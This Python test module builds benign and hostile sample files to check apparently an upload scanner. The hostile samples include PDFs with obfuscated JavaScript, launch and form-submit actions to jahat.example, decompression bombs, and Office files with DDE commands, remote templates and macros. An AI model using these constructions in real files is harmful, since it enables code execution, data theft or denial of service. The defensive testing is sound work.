"""More sample files, hostile or good deep inside: object streams, passwords, bombs, charts, a phone's real HEIC."""

import base64
import io
import struct
import zlib
from functools import partial

import pikepdf
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from PIL import Image

from tests.berkas_contoh import (
    BAIK,
    JAHAT,
    Pembuat,
    _potongan_png,
    docx,
    gambar,
    pdf,
    png_besar,
    relasi,
    tipe,
    xlsx,
)

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def pdf_aliran_objek(objek: bytes, *, isi_tambahan: bytes = b"") -> bytes:
    """A PDF whose only page and whose object 7 lie packed in an object stream, as Word and Acrobat write them."""
    dalam = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        objek,
    ]
    nomor, letak, tubuh = (1, 2, 3, 7), [], b""
    for satu in dalam:
        letak.append(len(tubuh))
        tubuh += satu + b" "
    kepala = b" ".join(b"%d %d" % pasang for pasang in zip(nomor, letak, strict=True)) + b" "
    padat = zlib.compress(kepala + tubuh + isi_tambahan)
    sifat = b"/Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d" % (len(kepala), len(padat))
    keluar = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    di = {5: len(keluar)}
    keluar += b"5 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\n" % (sifat, padat)
    di[6] = len(keluar)
    entri = [(0, 0, 65535), (2, 5, 0), (2, 5, 1), (2, 5, 2), (0, 0, 0), (1, di[5], 0), (1, di[6], 0), (2, 5, 3)]
    tabel = b"".join(struct.pack(">BIH", *satu) for satu in entri)
    sifat = b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d" % len(tabel)
    keluar += b"6 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\n" % (sifat, tabel)
    return keluar + b"startxref\n%d\n%%%%EOF\n" % di[6]


def pdf_disandikan(buka: str = "", asal: bytes | None = None) -> bytes:
    """Encrypted as banks and offices do it: free to read without `buka`, but not to change."""
    keluar = io.BytesIO()
    with pikepdf.open(io.BytesIO(asal or pdf())) as dokumen:
        dokumen.save(keluar, encryption=pikepdf.Encryption(owner="pemilik", user=buka, R=6))
    return keluar.getvalue()


def pdf_ditata(**pilihan) -> bytes:
    """Written anew by qpdf: linearised for the web, or with object streams."""
    keluar = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as dokumen:
        dokumen.save(keluar, **pilihan)
    return keluar.getvalue()


def pdf_ditandatangani_bertahap() -> bytes:
    """A signature laid over a finished document as an incremental update, which is how BSrE's clients sign."""
    asal = pdf()
    baru = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >> >>",
        5: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 100 4000 50] "
        b"/Contents <" + b"30" * 8000 + b"> /Name (Camat) /M (D:20230405100000+08'00') >>",
        6: b"<< /FT /Sig /Type /Annot /Subtype /Widget /T (Signature1) /V 5 0 R /Rect [0 0 0 0] /P 3 0 R /F 132 >>",
    }
    keluar, tabel = asal, b""
    for nomor, satu in baru.items():
        tabel += b"%d 1\n%010d 00000 n \n" % (nomor, len(keluar))
        keluar += b"%d 0 obj\n%s\nendobj\n" % (nomor, satu)
    lama = int(asal.rsplit(b"startxref\n", 1)[1].split()[0])
    ekor = b"xref\n%strailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return keluar + ekor % (tabel, lama, len(keluar))


def pindaian(halaman: int = 3) -> bytes:
    """A scanner's PDF: one picture a page."""
    keluar = io.BytesIO()
    lembar = [Image.effect_noise((827, 1169), 40) for _ in range(halaman)]
    lembar[0].save(keluar, "PDF", save_all=True, append_images=lembar[1:])
    return keluar.getvalue()


def pdf_kata_sering() -> bytes:
    """Resources called AA and EF, a link to a web page, a first view: nothing of it acts."""
    return pdf(
        b"<< /Font << /AA (x) /EF 12 >> /Encoding [/AA /Aacute /EF] >>",
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://kalaena.go.id) >> >>",
        katalog=b"/OpenAction [3 0 R /XYZ null null 0]",
    )


def bom(megabita: int, lapis: int = 1) -> bytes:
    """A stream object that unpacks to so many megabytes, packed `lapis` times over."""
    pemampat, isi = zlib.compressobj(9), b""
    for _ in range(megabita):
        isi += pemampat.compress(bytes(1024 * 1024))
    isi += pemampat.flush()
    for _ in range(lapis - 1):
        isi = zlib.compress(isi, 9)
    saringan = b"/FlateDecode " * lapis
    return b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (len(isi), saringan, isi)


def bom_run_length() -> bytes:
    """256 MB of nothing in RunLength coding."""
    isi = b"\x81\x00" * (2 * 1024 * 1024) + b"\x80"
    return b"<< /Length %d /Filter /RunLengthDecode >>\nstream\n%s\nendstream" % (len(isi), isi)


def pdf_berjs_tersandi() -> bytes:
    """A document whose script lies in an encrypted object stream, as qpdf writes it."""
    keluar = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as dokumen:
        dokumen.Root.OpenAction = dokumen.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )
        dokumen.save(
            keluar,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            encryption=pikepdf.Encryption(owner="pemilik", user="", R=6),
        )
    return keluar.getvalue()


def png_profil_bom() -> bytes:
    """A small picture whose colour profile unpacks to 100 MB."""
    profil = _potongan_png(b"iCCP", b"icc\0\0" + zlib.compress(bytes(100 * 1024 * 1024), 9))
    isi = png_besar(4, 4)
    return isi[:33] + profil + isi[33:]


def webp_besar() -> bytes:
    """A WebP whose canvas is 16,384 pixels square."""
    kanvas = struct.pack("<I", 16_383)[:3]
    isi = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + kanvas + kanvas
    return b"RIFF" + struct.pack("<I", len(isi)) + isi


def xlsx_bergrafik() -> bytes:
    """A workbook with a chart of its own."""
    buku, keluar = Workbook(), io.BytesIO()
    for baris in (("Triwulan", "Capaian"), ("I", 25), ("II", 50)):
        buku.active.append(baris)
    grafik = BarChart()
    grafik.add_data(Reference(buku.active, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    buku.active.add_chart(grafik, "D2")
    buku.save(keluar)
    return keluar.getvalue()


_GRAFIK = "word/charts/chart1.xml"
_BUKU = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"


def docx_bergrafik(buku: Pembuat = xlsx, nama: str = _BUKU) -> bytes:
    """A letter with a chart: Word keeps the chart's numbers as a workbook inside the document."""
    hubungan = relasi(b"package", b"../embeddings/" + nama.rpartition("/")[2].encode(), b"Internal")
    return docx({_GRAFIK: b"<c:chartSpace/>", "word/charts/_rels/chart1.xml.rels": hubungan, nama: buku()})


def buku_dengan(nama: str, isi: bytes) -> bytes:
    """A workbook with one more part."""
    tipe_buku = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return docx({"[Content_Types].xml": tipe(tipe_buku, "/xl/workbook.xml"), "xl/workbook.xml": b"<a/>", nama: isi})


# A photo of 64 x 48 pixels with EXIF, as libheif writes it; nothing installed here can.
_HEIC = (
    "0000SW^{RQXk}?*00000ZE0pPXk}?*ZE0a<0005VZDn*}000000000XXk=`10000000000aA{+700000000000000000000G-+&aV*mgE07O6l0ssL"
    "300001>;M4(00000000>P0ssI200IR70RR9100000H~;_uIB98aW&i*H00062000$fZf0cy000000RRAKc4ILB0000LX>Mj^0ssI300IC2MR;ju000"
    "004sdC7Z2$lO00031009SSaB^?}008D`aAR)(004Gqc4I>U18@KU0FVFx0000U@BsY%`1k+-4+CHT0RR|40Sp2E{{wIU00RJ!0009300RIXx&lC900"
    "96hLID8-Z~y=U0FVFx0{{R603M(qfd!W8<fgf}2xu@M00096AOHXZ03l)k0RRR>0l{;?i2wiq6Ju{|a&BX6cmM$a4FCp!0000KX>)L8000000000$"
    "0000$0000eV{Bn?0000$000010000m000010000000002|NsB+000020000GaA|mH000000|*ER00009X>xCL0{{R38EJ5BVE_OC000000RRC8fdT^"
    "sgoXeB02*m>Wo7^X0000001jhhb7KGk0096200014ZDe6|0000LC;_hvVD;sLumAIvR+=OASJVANfB*mh21R&jW&i+9O#mtY000O80s#*I0ssI22L"
    "J#7CIJ!v0{{R30RRR70000008npkb7gD*00"
)

BAIK_DALAM: list[tuple[str, Pembuat]] = [
    ("aliran objek.pdf", partial(pdf_aliran_objek, b"<< /Title (Laporan \\(/JS\\)) >>")),
    ("untuk web.pdf", partial(pdf_ditata, linearize=True)),
    ("padat.pdf", partial(pdf_ditata, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    ("terlindung ubah.pdf", pdf_disandikan),
    ("tanda tangan bertahap.pdf", pdf_ditandatangani_bertahap),
    ("pindaian.pdf", pindaian),
    ("nama AA dan EF.pdf", pdf_kata_sering),
    ("aliran 90 MB.pdf", lambda: pdf(bom(90))),
    ("tabel silang rusak.pdf", lambda: pdf().replace(b"startxref\n", b"startxref\n9")),
    ("foto nyata.heic", partial(base64.b85decode, _HEIC)),
    ("foto berprofil.png", partial(gambar, "PNG", icc_profile=bytes(3000))),
    ("bergrafik.docx", docx_bergrafik),
    ("bergrafik.xlsx", xlsx_bergrafik),
]

_CETAK = "mengembang"
JAHAT_DALAM: list[tuple[str, Pembuat, str]] = [
    ("skrip dalam aliran.pdf", partial(pdf_aliran_objek, JS), "skrip (JavaScript)"),
    ("skrip tersamar dalam aliran.pdf", partial(pdf_aliran_objek, JS.replace(b"vaS", b"v#61S")), "skrip (JavaScript)"),
    (
        "aliran tanpa jenis.pdf",
        lambda: pdf_aliran_objek(JS).replace(b"/Type /ObjStm", b"/Tipe /ObjStm"),
        "skrip (JavaScript)",
    ),
    ("peluncur dalam aliran.pdf", partial(pdf_aliran_objek, b"<< /S /Launch /F (x) >>"), "menjalankan program"),
    ("skrip dalam sandi.pdf", pdf_berjs_tersandi, "skrip (JavaScript)"),
    ("bersandi.pdf", partial(pdf_disandikan, "rahasia"), "terkunci kata sandi"),
    ("lampiran tanpa jenis.pdf", partial(pdf, b"<< /Type /Filespec /EF << /F 4 0 R >> >>"), "dilampirkan di dalamnya"),
    ("berjalan sendiri.pdf", partial(pdf, katalog=b"/AA << /WC 4 0 R >>"), "berjalan sendiri"),
    ("berjalan sendiri tersamar.pdf", partial(pdf, katalog=b"/#41A 4 0 R"), "berjalan sendiri"),
    ("mengirim.pdf", partial(pdf, b"<< /S /SubmitForm /F (http://jahat.example) >>"), "mengirim isinya"),
    ("mengambil.pdf", partial(pdf, b"<< /S /ImportData /F (x) >>"), "mengambil isi"),
    ("bom.pdf", lambda: pdf(bom(150)), _CETAK),
    ("bom berlapis.pdf", lambda: pdf(bom(400, 2)), _CETAK),
    ("bom berderet.pdf", lambda: pdf(*[bom(90)] * 14), _CETAK),
    ("bom run length.pdf", lambda: pdf(bom_run_length()), _CETAK),
    ("bom aliran objek.pdf", partial(pdf_aliran_objek, b"1", isi_tambahan=bytes(60 * 1024 * 1024)), _CETAK),
    ("banyak halaman.pdf", lambda: pdf().replace(b"/Count 1", b"/Count 5000"), "5000 halaman, melebihi 2000"),
    ("tanpa isi.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "rusak atau tidak lengkap"),
    ("besar.webp", webp_besar, "16384 x 16384 piksel"),
    ("profil bom.png", png_profil_bom, _CETAK),
    ("terpotong.png", lambda: gambar("PNG")[:-12], "rusak atau tidak lengkap"),
    ("animasi.png", partial(gambar, "GIF"), "isinya bukan PNG"),
    ("pindaian.jpg", partial(gambar, "TIFF"), "isinya bukan JPG"),
    ("vektor.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "isinya bukan PNG"),
    ("lembar makro.xlsx", partial(buku_dengan, "xl/macrosheets/sheet1.xml", b"<a/>"), "memuat makro"),
    (
        "dde.docx",
        partial(docx, {"word/x.xml": b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd </w:instrText>'}),
        "DDE",
    ),
    ("dde sederhana.docx", partial(docx, {"word/x.xml": b'<w:fldSimple w:instr=" ddeauto x y">'}), "DDE"),
    ("sisipan rtf.docx", partial(docx, {"word/afchunk.rtf": b"{\\rtf1}"}), "dapat dijalankan"),
    ("sisipan bat.docx", partial(docx, {"word/media/x.bat": b"calc"}), "dapat dijalankan"),
    (
        "templat jaringan.docx",
        partial(docx, {"word/_rels/s.xml.rels": relasi(b"attachedTemplate", b"file:///\\\\jahat\\x.dotx")}),
        "dari luar berkas",
    ),
    ("grafik ole.docx", partial(docx_bergrafik, lambda: b"\xd0\xcf\x11\xe0"), "OLE"),
    ("grafik bin.docx", partial(docx_bergrafik, xlsx, "word/embeddings/oleObject1.bin"), "OLE"),
    ("grafik makro.docx", partial(docx_bergrafik, partial(buku_dengan, "xl/vbaProject.bin", b"x")), "memuat makro"),
    (
        "grafik bersarang.docx",
        lambda: docx_bergrafik(partial(buku_dengan, "xl/embeddings/a.xlsx", xlsx())),
        "di dalam buku kerja sisipan",
    ),
    ("grafik docx.docx", partial(docx_bergrafik, docx), "isinya bukan dokumen"),
    ("grafik bom.docx", partial(docx_bergrafik, partial(buku_dengan, "xl/b.xml", bytes(20_000_000))), _CETAK),
]

SEMUA_BAIK = BAIK + BAIK_DALAM
SEMUA_JAHAT = JAHAT + JAHAT_DALAM
